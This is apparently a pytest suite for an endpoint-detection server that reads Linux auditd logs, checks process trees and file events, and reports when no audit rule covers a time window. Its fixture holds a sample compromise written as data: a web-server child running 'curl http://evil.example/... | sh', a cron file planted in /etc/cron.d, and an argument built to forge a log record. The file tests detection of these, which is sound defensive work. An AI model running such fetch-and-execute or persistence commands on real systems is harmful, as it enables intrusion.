"""auditd's text log as it writes it, whole, cut, and with what an attacker can put into it."""

from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from servers.endpoint.local.auditlog import AuditLog, parsed
from servers.endpoint.local.auditrules import Rule, rule
from servers.endpoint.local.query import answer
from servers.endpoint.local.tables import local_tables
from servers.endpoint.server import build
from servers.endpoint.settings import EndpointSettings
from tests.servers.acting import Analyst, analyst, part

AT = datetime(2026, 11, 21, 10, 0, tzinfo=UTC)
SECONDS = int(AT.timestamp())


def written(text: str) -> str:
    """A value as the kernel writes it."""
    harmless = all(0x21 <= byte <= 0x7E and byte != 0x22 for byte in text.encode())
    return f'"{text}"' if harmless else text.encode().hex().upper()


def started(serial: int, pid: int, parent: int, exe: str, *words: str, success: str = "yes") -> str:
    """The records of one program start."""
    head = f"msg=audit({SECONDS + serial}.250:{serial}):"
    call = (
        f"type=SYSCALL {head} arch=c000003e syscall=59 success={success} exit=0 a0=1 items=2 "
        f"ppid={parent} pid={pid} auid=1000 uid=0 gid=0 euid=0 tty=pts0 ses=3 "
        f"comm={written(exe.rpartition('/')[2])} exe={written(exe)} "
        f'subj=unconfined key="run"\x1dARCH=x86_64 SYSCALL=execve AUID="ann" UID="root"'
    )
    arguments = " ".join(f"a{number}={written(word)}" for number, word in enumerate(words))
    return (
        f"{call}\ntype=EXECVE {head} argc={len(words)} {arguments}\ntype=CWD {head} cwd={written('/srv/ann')}\n"
        f"type=PATH {head} item=0 name={written(exe)} inode=7 nametype=NORMAL\n"
        f"type=PROCTITLE {head} proctitle=6C73\n"
    )


def touched(serial: int, name: str, kind: str) -> str:
    """The records of one touch of a watched file."""
    head = f"msg=audit({SECONDS + serial}.500:{serial}):"
    return (
        f"type=SYSCALL {head} arch=c000003e syscall=257 success=yes ppid=1 pid=77 auid=4294967295 uid=33 "
        f'comm="vi" exe="/usr/bin/vi" key="etc"\ntype=CWD {head} cwd="/etc"\n'
        f'type=PATH {head} item=0 name="/etc/" nametype=PARENT\n'
        f"type=PATH {head} item=1 name={written(name)} nametype={kind}\n"
    )


@pytest.fixture
def file(tmp_path: Path) -> Path:
    """A log with a shell, a download that a web server's child made, and a new file."""
    path = tmp_path / "audit.log"
    path.write_text(
        f"type=DAEMON_START msg=audit({SECONDS}.000:1): op=start ver=3.0.9\n"
        + started(2, 50, 1, "/usr/sbin/apache2", "apache2")
        + started(3, 60, 50, "/bin/sh", "sh", "-c", 'curl "http://evil.example/a b" | sh')
        + started(4, 61, 60, "/usr/bin/curl", "curl", "-s", "http://evil.example/a b")
        + started(5, 62, 60, "/usr/bin/nothing", "nothing", success="no")
        + touched(6, "cron.d/evil job", "CREATE")
    )
    return path


def log(path: Path) -> AuditLog:
    """That log."""
    return AuditLog(path, timedelta(hours=1))


def test_program_starts_are_told_with_their_whole_command_line(file: Path) -> None:
    """Arguments with blanks or quotes come in hex; a start that failed is none."""
    found = log(file).started()

    assert [(each.pid, each.parent, each.exe) for each in found] == [
        (50, 1, "/usr/sbin/apache2"),
        (60, 50, "/bin/sh"),
        (61, 60, "/usr/bin/curl"),
    ]
    assert found[1].command_line == 'sh -c curl "http://evil.example/a b" | sh'
    assert (found[1].cwd, found[1].uid, found[1].auid) == ("/srv/ann", 0, 1000)
    assert found[0].time == AT + timedelta(seconds=2, milliseconds=250)


def test_touched_file_is_told_with_its_path(file: Path) -> None:
    """A relative name stands in the folder of the process; the folder itself was not touched."""
    [found] = log(file).touched()

    assert (found.operation, found.path, found.exe) == ("CREATED", "/etc/cron.d/evil job", "/usr/bin/vi")
    assert found.auid is None


def test_argument_cannot_forge_a_record(tmp_path: Path) -> None:
    """Line ends and quotes in an argument reach the log in hex only."""
    evil = 'x" pid=1 exe="/usr/bin/good"\ntype=SYSCALL msg=audit(1.000:9): pid=1'
    (tmp_path / "audit.log").write_text(started(3, 60, 50, "/bin/sh", "sh", evil))
    [found] = log(tmp_path / "audit.log").started()

    assert (found.pid, found.exe, found.command_line) == (60, "/bin/sh", f"sh {evil}")


def test_long_argument_in_pieces_is_one(tmp_path: Path) -> None:
    """The kernel cuts arguments at some thousand bytes."""
    text = started(3, 60, 50, "/bin/sh", "sh").replace(
        'argc=1 a0="sh"', 'argc=2 a0="sh" a1_len=6 a1[0]=616263 a1[1]="def"'
    )
    (tmp_path / "audit.log").write_text(text)

    assert log(tmp_path / "audit.log").started()[0].command_line == "sh abcdef"


@pytest.mark.parametrize("line", [b"", b"nonsense", b"type=SYSCALL", b"type=CWD msg=audit(x.1:2): a=1", b"\xff\xfe"])
def test_broken_line_is_no_record(line: bytes) -> None:
    """A torn log is read as far as it goes."""
    with pytest.raises(ValueError, match="record"):
        parsed(line)


def test_log_is_read_as_it_grows_and_across_a_rotation(file: Path) -> None:
    """auditd renames its log when it is full."""
    held = log(file)
    before = len(held.started())
    with file.open("a") as more:
        more.write(started(7, 70, 1, "/bin/true", "true"))
    grown = len(held.started())
    file.rename(file.with_name("audit.log.1"))
    file.write_text(started(8, 71, 1, "/bin/true", "true"))

    assert (before, grown, len(held.started())) == (3, 4, 5)


def test_tables_hold_what_the_log_tells(file: Path) -> None:
    """With osquery's names."""
    found = answer(
        "SELECT e.path, p.path FROM process_events e JOIN process_events p ON p.pid = e.parent WHERE e.cmdline LIKE "
        "'%evil.example%'",
        local_tables(log(file)),
    )
    files = answer("SELECT operation, path, executable FROM process_file_events", local_tables(log(file)))

    assert sorted(map(tuple, found.rows)) == [("/bin/sh", "/usr/sbin/apache2"), ("/usr/bin/curl", "/bin/sh")]
    assert files.rows == [["CREATED", "/etc/cron.d/evil job", "/usr/bin/vi"]]


@pytest.fixture
def soc(file: Path, tmp_path: Path) -> Analyst:
    """A server over that log."""
    return analyst(build, EndpointSettings(backend="local", audit_log=file, quiet_minutes=100_000), tmp_path)


async def test_tree_of_what_ended_long_ago_comes_from_the_log(soc: Analyst) -> None:
    """A web server that starts a shell is seen although none of them runs any longer."""
    at = "2026-11-21T10:00:03Z"
    found = await soc.asks("process_tree", host="localhost", process_id="/bin/sh", at=at, minutes=5)

    rows = {row["depth"]: row for row in part(found, "data", "processes")}
    assert [rows[depth]["process.executable"] for depth in (-1, 0, 1)] == [
        "/usr/sbin/apache2",
        "/bin/sh",
        "/usr/bin/curl",
    ]
    assert rows[0]["process.parent.entity_id"] == rows[-1]["process.entity_id"]


def accounted(minute: int) -> str:
    """What PAM has recorded without any rule."""
    return f"type=USER_ACCT msg=audit({SECONDS + 60 * minute}.000:{minute}): pid=1 uid=0 msg='op=PAM res=success'\n"


def test_log_without_program_starts_covers_none(tmp_path: Path) -> None:
    """auditd without a rule writes logons only, and whoever started a program then leaves nothing."""
    path = tmp_path / "audit.log"
    path.write_text("".join(map(accounted, range(60))))
    window = (AT + timedelta(minutes=1), AT + timedelta(minutes=50), AT + timedelta(minutes=60))
    never = log(path).blind_spot(*window)
    starts = [started(serial, 9, 1, "/bin/a", "a") for serial in (0, 3540)]
    path.write_text("".join([starts[0], *map(accounted, range(1, 59)), starts[1]]))
    seen = [AuditLog(path, timedelta(minutes=quiet)).blind_spot(*window) for quiet in (60, 30)]

    assert never is not None
    assert (never.code, "execve" in never.hint) == ("not_covered", True)
    assert [problem is None for problem in seen] == [True, False]


@pytest.mark.parametrize(
    ("rules", "all_starts"),
    [
        ("-a always,exit -F arch=b64 -S execve,execveat -F key=run", True),
        ("-a always,exit -S all -F key=run", True),
        ("-w /etc -p wa -k etc\n-w /usr/bin/curl -p x -k curl", False),
        ("-a always,exit -F arch=b64 -S execve -F auid>=1000 -F key=run", False),
        ("-a always,exit -F arch=b32 -S execve -F key=run", False),
        ("-a always,exit -F arch=b64 -S connect -F key=net", False),
        ("-a never,task\n-a always,exit -F arch=b64 -S execve", False),
        ("-a never,exit -S all -F dir=/dev/shm\n-a always,exit -F arch=b64 -S execve", False),
        ("-a always,exit -F arch=b64 -S execve\n-a always,exclude -F msgtype=EXECVE", False),
        ("-a always,exit -F arch=b64 -S execve\n-a always,exclude -F msgtype=CWD", True),
        ("", False),
    ],
)
def test_only_a_rule_about_every_start_covers_them(file: Path, rules: str, all_starts: bool) -> None:
    """Records of some programs look like those of all, unless the rules in force are known."""
    held = AuditLog(file, timedelta(days=9_999), rules=lambda: [rule(line) for line in rules.splitlines()])

    assert (held.silent() is None) is all_starts


def test_files_that_nobody_watches_are_not_covered(file: Path) -> None:
    """No row about a file says nothing where no rule is about it."""
    lines = ("-w /etc -p wa -k etc", "-a always,exit -F dir=/srv -F perm=wa -F key=srv")

    def hint(rules: list[Rule] | None) -> str:
        told = AuditLog(file, timedelta(days=9_999), rules=lambda: rules).unwatched()
        assert told.code == "not_covered"
        return told.hint

    assert [hint(None), hint([])] == ["see auditctl -l", "no file is watched; a rule is: -w PATH -p wa -k NAME"]
    assert hint([*map(rule, lines)]) == "watched: /etc, /srv"


async def test_agent_is_the_audit_log(soc: Analyst, tmp_path: Path) -> None:
    """Whether it covered a window decides what its silence is worth."""
    inside = {"start": "2026-11-21T10:00:03Z", "end": "2026-11-21T10:00:05Z"}
    states = [
        part(await soc.asks("get_host", host="localhost", **window), "data", "agent", "state")
        for window in (inside, {**inside, "start": "2026-11-20T10:00:00Z"})
    ]
    gone = analyst(build, EndpointSettings(backend="local", audit_log=tmp_path / "nowhere"), tmp_path)
    health = await gone.asks("health")

    assert states == ["covered", "partial"]
    assert part(health, "data", "ready") is False
